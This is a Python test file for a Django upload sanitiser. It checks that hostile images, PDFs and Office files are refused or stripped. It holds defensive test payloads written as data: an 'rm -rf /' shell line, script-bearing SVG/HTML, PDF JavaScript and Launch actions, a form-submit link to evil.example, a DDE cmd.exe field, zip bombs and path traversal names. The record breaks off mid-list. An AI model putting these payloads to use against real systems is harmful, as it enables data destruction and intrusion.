"""What comes in: hostile files made by `hostile.py`, and what is left of them."""

import io
import random
import re
import subprocess
import sys
import unicodedata
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pikepdf
import pytest
from django.core.files.base import ContentFile
from django.utils import translation
from PIL import Image

from center.intake import sandbox, words
from center.intake.kinds import detect_kind
from center.intake.uploads import (
    MAX_FILE_BYTES,
    UploadRefused,
    check_form_files,
    clean_document,
    clean_image,
    clean_pdf,
    clean_upload,
    display_name,
    neutral_name,
)
from tests.center import hostile
from tests.center.hostile import BLUE, HTML, RED, SVG

PHOTO_FORMATS = ["JPEG", "PNG", "WEBP", "HEIF"]


def is_near(colour: tuple[int, ...], expected: tuple[int, ...]) -> bool:
    return all(abs(one - other) < 40 for one, other in zip(colour[:3], expected, strict=True))


def unfolded(pdf: bytes) -> bytes:
    """Everything a PDF says, with its streams unpacked."""
    output = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf)) as document:
        document.save(
            output,
            qdf=True,
            compress_streams=False,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
        )
    return output.getvalue()


# --- refused

REFUSED = {
    "svg": (SVG, "svg"),
    "svg without declaration": (b" \n<svg onload='alert(1)'/>", "svg"),
    "svg in utf-16": (SVG.decode().encode("utf-16"), "svg"),
    "svgz": (hostile.svgz(), "svg"),
    "html called jpg": (HTML, "html"),
    "html behind a byte order mark": (b"\xef\xbb\xbf\r\n" + HTML, "html"),
    "a bare script": (b"<script>alert(1)</script>", "html"),
    "javascript": (b"alert(1)", "text"),
    "shell script": (b"#!/bin/sh\nrm -rf /", "program"),
    "windows program": (b"MZ" + bytes(200), "program"),
    "linux program": (b"\x7fELF" + bytes(200), "program"),
    "java class": (b"\xca\xfe\xba\xbe" + bytes(200), "program"),
    "gif": (hostile.picture("GIF"), "gif"),
    "gifar": (hostile.picture("GIF") + hostile.zip_file(), "gif"),
    "gif with a pdf inside": (b"GIF89a" + hostile.pdf(hostile.open_action), "gif"),
    "junk before a pdf": (b"junk junk " + hostile.pdf(hostile.open_action), "unknown"),
    "html before a pdf": (HTML + hostile.pdf(hostile.open_action), "html"),
    "tiff": (hostile.picture("TIFF"), "tiff"),
    "bmp": (hostile.picture("BMP"), "bmp"),
    "avif": (hostile.picture("AVIF"), "avif"),
    "icon": (hostile.picture("ICO"), "picture"),
    "postscript": (b"%!PS-Adobe-3.0 EPSF-3.0\n(x) run", "picture"),
    "mp4": (hostile.iso_media(b"isom"), "video"),
    "mov": (hostile.iso_media(b"qt  "), "video"),
    "mp3": (b"ID3\x04\x00\x00\x00\x00\x00\x00" + bytes(100), "audio"),
    "zip": (hostile.zip_file(), "archive"),
    "7z": (b"7z\xbc\xaf\x27\x1c" + bytes(50), "archive"),
    "rar": (b"Rar!\x1a\x07\x01\x00" + bytes(50), "archive"),
    "docx": (hostile.docx(), "word"),
    "docx with a macro": (hostile.docx(**{"word/vbaProject.bin": b"x"}), "word"),
    "xlsx called pdf": (hostile.zip_file(**{"xl/workbook.xml": b"<x/>"}), "excel"),
    "pptx": (hostile.zip_file(**{"ppt/presentation.xml": b"<x/>"}), "powerpoint"),
    "old word": (hostile.ole_file("WordDocument"), "word"),
    "old excel": (hostile.ole_file("Workbook"), "excel"),
    "ichitaro": (hostile.ole_file("DocumentText"), "office"),
    "rtf": (b"{\\rtf1\\ansi x}", "office"),
    "0 byte": (b"", "empty"),
    "1 byte": (b"\xff", "unknown"),
    "random bytes": (random.Random(1).randbytes(5_000), "unknown"),
    "too large": (b"\xff\xd8\xff" + bytes(MAX_FILE_BYTES), "too_large"),
    "jpg cut off": (hostile.picture("JPEG", hostile.noisy_photo())[:9_000], "unreadable"),
    "jpg with only a head": (b"\xff\xd8\xff\xe0\x00\x10JFIF", "unreadable"),
    "png cut off": (hostile.picture("PNG", hostile.noisy_photo())[:9_000], "unreadable"),
    "webp cut off": (hostile.picture("WEBP", hostile.noisy_photo())[:3_000], "unreadable"),
    "webp with only a head": (b"RIFF\x00\x00\x00\x00WEBPVP8 ", "unreadable"),
    "heic cut off": (hostile.picture("HEIF", hostile.noisy_photo())[:3_000], "unreadable"),
    "heic with only a head": (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", "unreadable"),
    "png with a broken sum": (hostile.picture("PNG").replace(b"IDAT", b"IDAU"), "unreadable"),
    "png of 121 megapixels": (hostile.png_bomb(), "too_many_pixels"),
    "png claiming 2^31 pixels a side": (hostile.png_claiming(2**31 - 1, 2**31 - 1), "too_many_pixels"),
    "png 0 pixels wide": (hostile.png_claiming(0, 5), "unreadable"),
    "png one pixel high, a million wide": (hostile.png_claiming(1_000_000, 1), "too_many_pixels"),
    "png with a text bomb": (
        hostile.png_with_chunk(b"zTXt", b"a\x00\x00" + zlib.compress(bytes(90_000_000), 1)),
        "unreadable",
    ),
    "jpg claiming 65500 a side": (hostile.jpeg_claiming(65_500, 65_500), "too_many_pixels"),
    "jpg of 5000 scans": (hostile.jpeg_of_many_scans(), "too_heavy"),
    "webp claiming 16383 a side": (hostile.webp_claiming(16_383, 16_383), "too_many_pixels"),
    "heic claiming 30000 a side": (hostile.heic_claiming(30_000, 30_000), "unreadable"),
    "pdf with a password": (hostile.encrypted_pdf("secret"), "encrypted"),
    "pdf protected against copying": (hostile.encrypted_pdf(""), "encrypted"),
    "pdf cut off": (hostile.pdf(pages=20)[:-900], "unreadable"),
    "pdf for the web cut off": (hostile.pdf(pages=40, linearize=True)[:-1_500], "unreadable"),
    "pdf with only a head": (b"%PDF-1.7\n", "unreadable"),
    "pdf of nonsense": (b"%PDF-1.7\n" + random.Random(2).randbytes(3_000) + b"%%EOF", "unreadable"),
    "pdf without pages": (hostile.pdf(pages=0), "unreadable"),
    "pdf of 301 pages": (hostile.pdf(pages=301), "too_many_pages"),
    "pdf holding other files": (hostile.pdf(hostile.portfolio), "pdf_portfolio"),
    "pdf form for one program": (hostile.pdf(hostile.dynamic_form), "pdf_dynamic_form"),
    "pdf whose pages lead to themselves": (hostile.pdf_with_looping_pages(), "unreadable"),
    "fdf": (b"%FDF-1.2\n1 0 obj\n<< /FDF << /JavaScript << /Before (CANARY) >> >> >>\nendobj", "text"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_files_that_are_not_taken_are_refused_with_a_reason(name):
    content, code = REFUSED[name]
    with pytest.raises(UploadRefused) as refusal:
        clean_upload(io.BytesIO(content), original_name="写真.jpg")
    assert refusal.value.code == code


@pytest.mark.parametrize("language", ["ja", "en"])
def test_every_reason_is_said_in_whole_sentences_with_its_numbers(language):
    with translation.override(language):
        said = {code: str(message) for code, message in words.MESSAGES.items()}
    assert all(text.endswith((".", "。")) and "{" not in text for text in said.values())
    assert "10" in said["too_large"]
    assert "50" in said["too_many_pixels"]
    assert "300" in said["too_many_pages"]


def test_the_words_are_chosen_when_they_are_read_not_when_the_file_is_refused():
    with pytest.raises(UploadRefused) as refusal:
        clean_upload(b"", original_name="x")
    with translation.override("ja"):
        in_japanese = str(refusal.value.message)
    with translation.override("en"):
        assert str(refusal.value.message) == "This file is empty. Please choose it once more."
    assert in_japanese


# --- pictures


@pytest.mark.parametrize("fmt", PHOTO_FORMATS)
def test_no_place_no_author_and_no_comment_is_left_in_a_picture(fmt):
    raw = hostile.picture_with_place(fmt)
    assert b"CANARY" in raw
    clean = clean_upload(raw, original_name="x")
    assert b"CANARY" not in clean.content
    assert b"Exif" not in clean.content
    assert b"eXIf" not in clean.content
    painted = Image.open(io.BytesIO(clean.content))
    assert dict(painted.getexif()) == {}
    assert set(painted.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density", "progressive", "progression"}


@pytest.mark.parametrize("fmt", PHOTO_FORMATS)
def test_a_picture_taken_sideways_stands_upright_afterwards(fmt):
    clean = clean_upload(hostile.picture_with_place(fmt, orientation=6), original_name="x")
    assert (clean.width, clean.height) == (20, 40)
    painted = Image.open(io.BytesIO(clean.content)).convert("RGB")
    assert painted.size == (20, 40)
    assert is_near(painted.getpixel((10, 5)), RED)
    assert is_near(painted.getpixel((10, 35)), BLUE)


@pytest.mark.parametrize("orientation", range(1, 9))
def test_every_way_of_holding_a_camera_ends_upright(orientation):
    clean = clean_image(hostile.picture_with_place("JPEG", orientation), "x")
    painted = Image.open(io.BytesIO(clean.content)).convert("RGB")
    corner_of_red = {1: (5, 10), 2: (35, 10), 3: (35, 10), 4: (5, 10), 5: (10, 5), 6: (10, 5), 7: (10, 35), 8: (10, 35)}
    assert is_near(painted.getpixel(corner_of_red[orientation]), RED)


@pytest.mark.parametrize("tail", [HTML, hostile.zip_file(), hostile.pdf(hostile.open_action), b"<?php CANARY ?>"])
@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_nothing_rides_along_behind_a_picture(fmt, tail):
    clean = clean_upload(hostile.picture(fmt) + tail, original_name="x.jpg.html")
    end = {".jpg": b"\xff\xd9", ".png": b"IEND\xaeB`\x82", ".webp": b""}[clean.extension]
    assert clean.content.endswith(end)
    assert b"CANARY" not in clean.content
    assert b"PK" not in clean.content
    assert b"%PDF" not in clean.content


def test_a_picture_that_is_a_pdf_as_well_becomes_only_a_picture():
    jpeg = hostile.picture("JPEG", comment=b"%PDF-1.7 CANARY")
    clean = clean_upload(jpeg + hostile.pdf(hostile.open_action), original_name="x.pdf")
    assert (clean.kind, clean.extension) == ("image", ".jpg")
    assert b"%PDF" not in clean.content


def test_a_script_in_a_private_png_chunk_is_gone():
    clean = clean_upload(hostile.png_with_chunk(b"evIl", HTML), original_name="x")
    assert set(re.findall(rb"[A-Za-z]{4}(?=[^A-Za-z])", clean.content)) & {b"evIl"} == set()
    assert b"CANARY" not in clean.content


@pytest.mark.parametrize("fmt", ["PNG", "WEBP"])
def test_an_animation_becomes_its_first_picture(fmt):
    clean = clean_upload(hostile.animation(fmt), original_name="x")
    still = Image.open(io.BytesIO(clean.content))
    assert getattr(still, "n_frames", 1) == 1
    assert is_near(still.convert("RGB").getpixel((15, 15)), RED)


def test_the_second_picture_that_telephones_hide_behind_a_photo_is_gone():
    raw = hostile.multi_picture_jpeg()
    clean = clean_upload(raw, original_name="x")
    assert raw.count(b"\xff\xd8\xff") == 2
    assert clean.content.count(b"\xff\xd8\xff") == 1
    assert b"MPF" not in clean.content


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP", "HEIF"])
def test_colours_of_another_profile_become_srgb(fmt):
    raw = hostile.picture(fmt, Image.new("RGB", (16, 16), RED), icc_profile=hostile.swapped_profile())
    clean = clean_upload(raw, original_name="x")
    painted = Image.open(io.BytesIO(clean.content))
    assert "icc_profile" not in painted.info
    assert is_near(painted.convert("RGB").getpixel((8, 8)), BLUE)


def test_a_broken_colour_profile_or_broken_notes_do_not_cost_the_picture():
    for options in ({"icc_profile": b"CANARY" * 50}, {"exif": b"Exif\x00\x00MM\x00*\xff\xff\xff\xffCANARY"}):
        clean = clean_upload(hostile.picture("JPEG", **options), original_name="x")
        assert (clean.width, clean.height) == (40, 20)
        assert b"CANARY" not in clean.content


@pytest.mark.parametrize("mode", ["CMYK", "L"])
def test_pictures_for_printing_become_pictures_for_screens(mode):
    clean = clean_upload(hostile.picture("JPEG", hostile.two_halves(mode)), original_name="x")
    painted = Image.open(io.BytesIO(clean.content))
    assert painted.mode == {"CMYK": "RGB", "L": "L"}[mode]
    if mode == "CMYK":
        assert is_near(painted.getpixel((5, 10)), RED)


def test_16_bit_grey_keeps_its_tones():
    deep = Image.new("I;16", (10, 10), 32_768)
    clean = clean_upload(hostile.picture("PNG", deep), original_name="x")
    assert Image.open(io.BytesIO(clean.content)).convert("L").getpixel((5, 5)) == 128


def see_through(colour: tuple[int, int, int, int]) -> Image.Image:
    image = hostile.two_halves("RGBA")
    image.paste(colour, (0, 0, 20, 20))
    return image


@pytest.mark.parametrize(
    ("raw", "extension"),
    [
        (hostile.picture("PNG"), ".png"),
        (hostile.picture("PNG", hostile.two_halves("P")), ".png"),
        (hostile.picture("PNG", hostile.two_halves("1")), ".png"),
        (hostile.picture("PNG", see_through((0, 0, 0, 0))), ".png"),
        (hostile.picture("PNG", hostile.noisy_photo()), ".jpg"),
        (hostile.picture("WEBP", hostile.noisy_photo()), ".jpg"),
        (hostile.picture("WEBP", see_through((0, 0, 0, 0))), ".webp"),
        (hostile.picture("HEIF", hostile.noisy_photo()), ".jpg"),
        (hostile.picture("HEIF", see_through((0, 0, 0, 0))), ".jpg"),
        (hostile.picture("JPEG"), ".jpg"),
    ],
    ids=[
        "drawing",
        "palette",
        "two tones",
        "see-through",
        "png photo",
        "webp photo",
        "webp",
        "heic",
        "heic cut",
        "jpg",
    ],
)
def test_drawings_stay_sharp_and_photos_become_jpeg(raw, extension):
    clean = clean_upload(raw, original_name="x")
    assert clean.extension == extension
    assert "." + detect_kind(clean.content).replace("jpeg", "jpg") == extension


def test_see_through_parts_stay_see_through_in_png_and_become_white_in_jpeg():
    png = clean_upload(hostile.picture("PNG", see_through((0, 0, 0, 0))), original_name="x")
    assert Image.open(io.BytesIO(png.content)).getpixel((5, 5))[3] == 0
    heic = clean_upload(hostile.picture("HEIF", see_through((0, 0, 0, 0))), original_name="x")
    assert is_near(Image.open(io.BytesIO(heic.content)).getpixel((5, 5)), (255, 255, 255))


def test_jpeg_comes_out_progressive():
    clean = clean_upload(hostile.picture("JPEG", hostile.noisy_photo()), original_name="x")
    assert Image.open(io.BytesIO(clean.content)).info["progressive"]


def test_50_megapixels_are_taken_and_one_more_row_is_not():
    assert clean_upload(hostile.picture("PNG", Image.new("1", (10_000, 5_000))), original_name="x").width == 10_000
    with pytest.raises(UploadRefused, match="too_many_pixels"):
        clean_upload(hostile.picture("PNG", Image.new("1", (10_000, 5_001))), original_name="x")


# --- PDF

HARMFUL_WORDS = re.compile(
    rb"/JavaScript|/JS\b|/Launch|/SubmitForm|/ImportData|/GoToR|/GoToE|/AA\b|/OpenAction|/EmbeddedFiles?\b|/Filespec"
    rb"|/RichMedia|/Rendition|/XFA|/EF\b|/PieceInfo|/Metadata|/Author|/ByteRange|/NeedsRendering|/Perms|/AF\b|javascript:"
)
HOSTILE_PDFS = {
    "script on opening": hostile.pdf(hostile.open_action),
    "script as a stream": hostile.pdf(hostile.script_as_stream),
    "script in a packed object": hostile.pdf(hostile.open_action, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "script in a file for the web": hostile.pdf(hostile.open_action, linearize=True),
    "script with escaped names": hostile.pdf_with_escaped_names(),
    "script in the name tree": hostile.pdf(hostile.script_name_tree),
    "script in an outline": hostile.pdf(hostile.outline_script),
    "script at the end of a chain": hostile.pdf(hostile.chained_actions),
    "script in a corner": hostile.pdf(hostile.script_in_a_corner),
    "program on opening": hostile.pdf(hostile.open_action_launch),
    "events of the document": hostile.pdf(hostile.catalog_events),
    "events of a page": hostile.pdf(hostile.page_events),
    "events of an annotation": hostile.pdf(hostile.annotation_events),
    "events of a field, and a form of another kind": hostile.pdf(hostile.field_events),
    "link to a program": hostile.link_pdf(S=pikepdf.Name.Launch, F="CANARY.exe"),
    "link to a script": hostile.link_pdf(S=pikepdf.Name.URI, URI="javascript:alert('CANARY')"),
    "link to a script in disguise": hostile.link_pdf(S=pikepdf.Name.URI, URI="java\tscript:alert('CANARY')"),
    "link to a folder": hostile.link_pdf(S=pikepdf.Name.URI, URI="file:///C:/CANARY"),
    "link to another server": hostile.link_pdf(S=pikepdf.Name.URI, URI="\\\\evil.example\\CANARY"),
    "link to another file": hostile.link_pdf(S=pikepdf.Name.GoToR, F="CANARY.pdf", D=pikepdf.Array([0])),
    "link into an attachment": hostile.link_pdf(S=pikepdf.Name.GoToE, T=pikepdf.Dictionary(N="CANARY")),
    "link that sends the form": hostile.link_pdf(S=pikepdf.Name.SubmitForm, F="https://evil.example/CANARY"),
    "link that loads data": hostile.link_pdf(S=pikepdf.Name.ImportData, F="CANARY.fdf"),
    "link that does something else": hostile.pdf(hostile.action_without_type),
    "attached program": hostile.pdf(hostile.attachment_tree),
    "attached program on a page": hostile.pdf(hostile.attachment_annotation),
    "rich media": hostile.pdf(hostile.rich_media),
    "sound, film and 3D": hostile.pdf(hostile.media_annotations),
    "notes about the author": hostile.pdf(hostile.origin_notes),
    "author of a comment": hostile.pdf(hostile.comment_author),
    "photo with a place": hostile.pdf(hostile.photo_inside),
    "packed photo with a place": hostile.pdf(lambda document: hostile.photo_inside(document, packed=True)),
    "jpeg 2000 with a place": hostile.pdf(hostile.jpeg2000_inside),
    "stream from outside": hostile.pdf(hostile.outside_stream),
    "signature with a name": hostile.pdf(hostile.signature),
    "secret in an earlier state": hostile.pdf_with_history(),
    "zip behind the end": hostile.pdf() + hostile.zip_file(),
    "page behind the end": hostile.pdf() + HTML * 50,
    "empty line before the head": b"\r\n\r\n" + hostile.pdf(hostile.open_action),
    "nested deeply": hostile.pdf_nested(400),
}


@pytest.mark.parametrize("name", HOSTILE_PDFS)
def test_a_pdf_neither_acts_nor_carries_nor_tells_anything_but_its_pages(name):
    clean = clean_upload(HOSTILE_PDFS[name], original_name="ちらし.pdf")
    everything = unfolded(clean.content)
    assert (clean.kind, clean.extension, clean.pages) == ("pdf", ".pdf", 1)
    assert b"CANARY" not in everything
    assert HARMFUL_WORDS.findall(everything) == []
    assert clean.content.count(b"%%EOF") == 1
    assert clean.content.startswith(b"%PDF-")
    assert clean.content.rstrip().endswith(b"%%EOF")
    if name not in ("script with escaped names", "nested deeply"):
        assert b"VISIBLE" in everything


def test_the_builders_of_hostile_pdfs_do_what_they_say():
    harmless = {"link that does something else", "packed photo with a place", "photo with a place", "nested deeply"}
    harmless |= {"zip behind the end", "script with escaped names"}
    for name in set(HOSTILE_PDFS) - harmless:
        raw = HOSTILE_PDFS[name]
        assert b"CANARY" in raw or b"CANARY" in unfolded(raw), name


def test_links_to_pages_and_addresses_bookmarks_and_fields_stay():
    def build(document):
        hostile.field_events(document)
        hostile.script_name_tree(document)
        for address in (
            "https://example.jp/%E5%82%AC",
            "http://example.jp/",
            "mailto:a@example.jp",
            "HTTPS://EXAMPLE.JP/",
        ):
            hostile.annotate(document, A=hostile.action(S=pikepdf.Name.URI, URI=address))
        goto = hostile.action(S=pikepdf.Name.GoTo, D=pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit]))
        hostile.annotate(document, A=goto)
        hostile.annotate(document, A=hostile.action(S=pikepdf.Name.Named, N=pikepdf.Name.NextPage))

    clean = clean_pdf(hostile.pdf(build), "x")
    with pikepdf.open(io.BytesIO(clean.content)) as document:
        links = [annotation.A for annotation in document.pages[0].Annots if "/A" in annotation]
        assert [str(link.S) for link in links] == ["/URI"] * 4 + ["/GoTo", "/Named"]
        assert str(links[0].URI) == "https://example.jp/%E5%82%AC"
        assert str(document.Root.AcroForm.Fields[0].T) == "VISIBLE-field"
        assert "/Dests" in document.Root.Names


def test_a_link_leads_to_one_place_and_not_on_from_there():
    clean = clean_pdf(HOSTILE_PDFS["script at the end of a chain"], "x")
    with pikepdf.open(io.BytesIO(clean.content)) as document:
        link = document.pages[0].Annots[0].A
        assert str(link.URI) == "https://VISIBLE.example/"
        assert "/Next" not in link


def test_a_signature_that_no_longer_holds_leaves_an_empty_field():
    clean = clean_pdf(HOSTILE_PDFS["signature with a name"], "x")
    with pikepdf.open(io.BytesIO(clean.content)) as document:
        assert "/V" not in document.Root.AcroForm.Fields[0]


def test_fonts_and_drawing_states_with_unusual_names_stay():
    clean = clean_pdf(hostile.pdf(hostile.unusual_names), "x")
    with pikepdf.open(io.BytesIO(clean.content)) as document:
        resources = document.pages[0].Resources
        assert set(resources.Font.keys()) == {"/A", "/AA", "/JS", "/AF"}
        assert set(resources.ExtGState.keys()) == {"/A", "/AA"}
        assert set(resources.ColorSpace.keys()) == {"/AF"}
        assert "/A" in document.Root.StructTreeRoot.K


@pytest.mark.parametrize("packed", [False, True])
def test_a_photo_inside_a_pdf_is_still_the_same_picture(packed):
    clean = clean_pdf(hostile.pdf(lambda document: hostile.photo_inside(document, packed=packed)), "x")
    with pikepdf.open(io.BytesIO(clean.content)) as document:
        painted = pikepdf.PdfImage(document.pages[0].Resources.XObject.Im0).as_pil_image()
    original = Image.open(io.BytesIO(hostile.picture_with_place("JPEG")))
    assert painted.convert("RGB").tobytes() == original.convert("RGB").tobytes()


def test_a_pdf_with_a_damaged_table_is_mended():
    damaged = re.sub(rb"startxref\n\d+", b"startxref\n99", hostile.pdf(pages=3))
    assert clean_pdf(damaged, "x").pages == 3


def test_a_pdf_that_unfolds_without_end_is_refused_before_it_does():
    assert clean_pdf(hostile.pdf_with_padded_structure(1), "x").pages == 1
    with pytest.raises(UploadRefused) as refusal:
        clean_pdf(hostile.pdf_with_padded_structure(400), "x")
    assert refusal.value.code in ("unreadable", "too_heavy")


def test_a_pdf_of_very_many_objects_is_refused():
    with pytest.raises(UploadRefused, match="too_heavy"):
        clean_pdf(hostile.pdf_of_many_objects(310_000), "x", max_bytes=50_000_000)


def test_300_pages_are_taken():
    assert clean_pdf(hostile.pdf(pages=300), "x").pages == 300


def test_cleaning_a_clean_pdf_changes_nothing_more():
    once = clean_pdf(hostile.pdf(hostile.origin_notes), "x").content
    assert clean_pdf(once, "x").content == once


# --- documents of the staff


@pytest.fixture
def cleaned_docx() -> dict[str, bytes]:
    clean = clean_document(hostile.docx(), "案内.docx")
    assert (clean.kind, clean.extension, clean.original_name) == ("document", ".docx", "案内.docx")
    with zipfile.ZipFile(io.BytesIO(clean.content)) as archive:
        assert {entry.date_time[0] for entry in archive.infolist()} == {1980}
        return {name: archive.read(name) for name in archive.namelist()}


def test_a_word_file_keeps_its_words_and_loses_what_it_tells_about_its_author(cleaned_docx):
    assert not [name for name, data in cleaned_docx.items() if b"CANARY" in data or "docProps" in name]
    assert b"docProps" not in b"".join(cleaned_docx.values())
    assert b"VISIBLE" in cleaned_docx["word/document.xml"]
    assert b"attachedTemplate" not in cleaned_docx["word/settings.xml"]


def test_links_to_web_pages_stay_in_a_word_file_and_links_to_folders_lead_nowhere(cleaned_docx):
    links = cleaned_docx["word/_rels/document.xml.rels"]
    assert b"https://VISIBLE.example/" in links
    assert links.count(b"about:blank") == 3
    assert b"media/photo.jpeg" in links


def test_photos_in_a_word_file_keep_their_orientation_and_lose_their_place(cleaned_docx):
    photo = Image.open(io.BytesIO(cleaned_docx["word/media/photo.jpeg"]))
    original = Image.open(io.BytesIO(hostile.picture_with_place("JPEG")))
    assert dict(photo.getexif()) == {0x0112: 6}
    assert photo.convert("RGB").tobytes() == original.convert("RGB").tobytes()
    assert Image.open(io.BytesIO(cleaned_docx["word/media/drawing.png"])).size == (40, 20)


MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
DDE = '<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe "x"</w:instrText></w:r></w:p>'
ENTITIES = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'


def protected_docx() -> bytes:
    content = bytearray(hostile.docx())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for found in re.finditer(re.escape(signature), bytes(content)):
            content[found.start() + offset] |= 1
    return bytes(content)


REFUSED_DOCUMENTS = {
    "macro": (hostile.docx(**{"word/vbaProject.bin": b"x"}), "macro"),
    "macro by its type": (hostile.docx(main=MACRO_TYPE), "macro"),
    "activex": (hostile.docx(**{"word/activeX/activeX1.xml": b"<x/>"}), "macro"),
    "dde": (hostile.docx(**{"word/document.xml": hostile.word_document(DDE)}), "macro"),
    "binary workbook": (hostile.zip_file(**{"xl/workbook.bin": b"x"}), "unreadable"),
    "program inside": (hostile.docx(**{"word/embeddings/oleObject1.bin": b"x"}), "embedded"),
    "web page inside": (hostile.docx(**{"word/afchunk.mht": HTML}), "embedded"),
    "path that climbs": (hostile.docx(**{"../../x.xml": b"<x/>"}), "unreadable"),
    "absolute path": (hostile.docx(**{"/etc/x.xml": b"<x/>"}), "unreadable"),
    "password": (protected_docx(), "encrypted"),
    "zip bomb": (hostile.docx(**{"word/media/big.bmp": bytes(201 * 1024 * 1024)}), "too_heavy"),
    "3000 parts": (hostile.docx(**{f"word/{number}.xml": b"<x/>" for number in range(3_000)}), "too_heavy"),
    "entities": (hostile.docx(**{"word/styles.xml": ENTITIES}), "unreadable"),
    "broken xml": (hostile.docx(**{"word/styles.xml": b"<x>"}), "unreadable"),
    "no types": (hostile.zip_file(**{"word/document.xml": b"<x/>"}), "unreadable"),
    "cut off": (hostile.docx()[:-200], "unreadable"),
    "zip": (hostile.zip_file(), "archive"),
    "old word": (hostile.ole_file("WordDocument"), "word"),
    "photo": (hostile.picture("JPEG"), "not_a_document"),
    "html called txt": (HTML, "html"),
    "svg called txt": (SVG, "svg"),
    "program called txt": (b"MZ" + bytes(99), "program"),
    "bytes called txt": (bytes(range(256)), "not_text"),
    "empty": (b"", "empty"),
    "pdf with a password": (hostile.encrypted_pdf("x"), "encrypted"),
}


@pytest.mark.parametrize("name", REFUSED_DOCUMENTS)
def test_documents_that_are_not_taken_are_refused_with_a_reason(name):
    content, code = REFUSED_DOCUMENTS[name]
    with pytest.raises(UploadRefused) as refusal:
        clean_document(content, "文書.txt")
    assert refusal.value.code == code


def test_an_excel_file_keeps_its_cells_and_loses_its_author():
    book = openpyxl.Workbook()
    book.properties.creator = "CANARY Taro"
    book.active["A1"] = "団体名"
    book.active["A2"].hyperlink = "https://example.jp/"
    book.active["A3"].hyperlink = "file://server/CANARY"
    book.active["A3"] = "共有フォルダー"
    output = io.BytesIO()
    book.save(output)
    clean = clean_document(output.getvalue(), "一覧.xlsx")
    assert clean.extension == ".xlsx"
    with zipfile.ZipFile(io.BytesIO(clean.content)) as archive:
        assert not [name for name in archive.namelist() if b"CANARY" in archive.read(name)]
    again = openpyxl.load_workbook(io.BytesIO(clean.content))
    assert again.active["A1"].value == "団体名"
    assert again.active["A2"].hyperlink.target == "https://example.jp/"
    assert again.properties.creator != "CANARY Taro"


def test_an_excel_file_inside_a_word_file_loses_its_author_too():
    book = openpyxl.Workbook()
    book.properties.creator = "CANARY Taro"
    output = io.BytesIO()
    book.save(output)
    clean = clean_document(hostile.docx(**{"word/embeddings/table.xlsx": output.getvalue()}), "x.docx")
    with zipfile.ZipFile(io.BytesIO(clean.content)) as archive:
        inner = zipfile.ZipFile(io.BytesIO(archive.read("word/embeddings/table.xlsx")))
    assert not [name for name in inner.namelist() if "docProps" in name]


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("一覧.csv", "団体名,電話\r\n会,024".encode("cp932"), "text/csv"),
        ("一覧.CSV", "団体名,電話\n".encode("utf-8-sig"), "text/csv"),
        ("一覧.csv", "団体名\t電話\n".encode("utf-16"), "text/csv"),
        ("覚え書き.txt", "こんにちは\n".encode(), "text/plain"),
        ("暦.ics", "BEGIN:VCALENDAR\r\nSUMMARY:もち\r\nEND:VCALENDAR".encode(), "text/calendar"),
    ],
)
def test_texts_stay_byte_for_byte(name, content, content_type):
    clean = clean_document(content, name)
    assert clean.content == content
    assert clean.content_type == content_type
    assert clean.original_name.lower() == name.lower()


@pytest.mark.parametrize(
    ("name", "code"), [("x.ics", "not_text"), ("x.bat", "not_a_document"), ("x", "not_a_document")]
)
def test_a_text_must_be_what_its_ending_promises(name, code):
    with pytest.raises(UploadRefused, match=code):
        clean_document("ただの文".encode(), name)


# --- which way in


def test_each_way_in_takes_only_its_own_kind():
    photo, pdf = hostile.picture("JPEG"), hostile.pdf()
    assert clean_image(photo, "x").kind == "image"
    assert clean_pdf(pdf, "x").kind == "pdf"
    with pytest.raises(UploadRefused, match="not_a_picture"):
        clean_image(pdf, "x")
    with pytest.raises(UploadRefused, match="not_a_pdf"):
        clean_pdf(photo, "x")
    with pytest.raises(UploadRefused, match="word"):
        clean_image(hostile.docx(), "x")


def test_a_file_that_was_read_before_is_read_from_its_beginning():
    file = ContentFile(hostile.picture("JPEG"), name="x.jpg")
    file.read()
    assert clean_upload(file, original_name="x").width == 40


def test_a_closed_file_is_refused_and_does_not_crash():
    file = io.BytesIO(hostile.picture("JPEG"))
    file.close()
    with pytest.raises(UploadRefused, match="unreadable"):
        clean_upload(file, original_name="x")


def test_a_file_larger_than_it_says_is_not_read_to_its_end():
    class Endless(io.RawIOBase):
        size = 10
        asked = 0

        def seek(self, *_where):
            return 0

        def read(self, count=-1):
            self.asked = count
            return b"\xff\xd8\xff" + bytes(count - 3)

    file = Endless()
    with pytest.raises(UploadRefused, match="too_large"):
        clean_upload(file, original_name="x")
    assert file.asked == MAX_FILE_BYTES + 1


def test_staff_may_send_larger_pdfs_than_the_public():
    def print_in_colour(document):
        document.pages[0].obj["/X"] = document.make_stream(random.Random(3).randbytes(11_000_000))

    heavy = hostile.pdf(print_in_colour)
    with pytest.raises(UploadRefused, match="too_large"):
        clean_upload(heavy, original_name="広報.pdf")
    assert clean_document(heavy, "広報.pdf").pages == 1


@pytest.mark.parametrize(
    ("sizes", "codes"),
    [
        ([1] * 5, []),
        ([1] * 6, ["too_many_files"]),
        ([10 * 1024 * 1024] * 3, []),
        ([10 * 1024 * 1024] * 3 + [1], ["form_too_large"]),
        ([10 * 1024 * 1024] * 6, ["too_many_files", "form_too_large"]),
        ([], []),
    ],
)
def test_a_form_takes_five_files_and_30_megabytes(sizes, codes):
    files = []
    for size in sizes:
        file = ContentFile(b"")
        file.size = size
        files.append(file)
    assert [problem.code for problem in check_form_files(files)] == codes


# --- names


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("催しのちらし.pdf", "催しのちらし.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
